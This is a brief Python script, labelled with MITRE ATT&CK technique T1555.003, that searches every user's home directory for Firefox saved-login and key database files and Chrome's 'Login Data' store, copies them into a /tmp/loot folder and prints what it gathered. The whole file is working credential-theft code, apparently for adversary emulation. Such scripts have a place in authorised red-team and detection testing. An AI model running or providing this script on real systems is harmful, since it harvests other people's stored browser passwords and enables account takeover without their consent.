#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1555.003 Credentials from Web Browsers: copies what Firefox and Chrome store of passwords.
import glob
import os
import shutil

os.makedirs("/tmp/loot", exist_ok=True)
for pattern in ("/home/*/.mozilla/firefox/*/logins.json", "/home/*/.mozilla/firefox/*/key4.db",
                "/home/*/.config/google-chrome/*/Login Data"):
    for path in glob.glob(pattern):
        shutil.copy(path, "/tmp/loot/" + path.strip("/").replace("/", "_"))
print(os.listdir("/tmp/loot"))
